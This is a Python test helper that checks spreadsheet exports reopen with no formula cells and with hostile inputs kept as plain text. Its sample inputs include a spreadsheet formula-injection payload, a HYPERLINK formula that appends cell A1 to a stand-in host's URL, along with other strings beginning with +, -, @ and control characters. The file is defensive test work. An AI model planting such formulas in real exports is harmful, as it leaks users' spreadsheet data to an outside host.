"""The check every spreadsheet export must pass (issue 13.7): reopened with openpyxl, no cell is a
formula and each hostile text given is there as a string cell, unchanged."""

import io

from openpyxl import load_workbook

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
HOSTILE_TEXTS = (HOSTILE, "+84 máy lẻ 12", "-1 mô hình", "@SUM(A1:A9)", "\t=1+1", "\r=2+2")


def assert_text_cells(content: bytes, *texts: str, exact: tuple[str, ...] = ()) -> None:
    """`texts` must appear inside some string cell, `exact` as a whole cell, unchanged (no "'" added)."""
    workbook = load_workbook(io.BytesIO(content))
    strings: dict[str, str] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    # xlsxwriter escapes a carriage return as _x000D_, which openpyxl does not undo
                    strings[cell.value.replace("_x000D_", "\r")] = cell.data_type
    for text in texts:
        found = [value for value in strings if text in value]
        assert found, f"{text!r} not exported as text"
        assert all(strings[value] in ("s", "inlineStr") for value in found)
    for text in exact:
        assert strings.get(text) in ("s", "inlineStr"), f"{text!r} not exported unchanged as text"
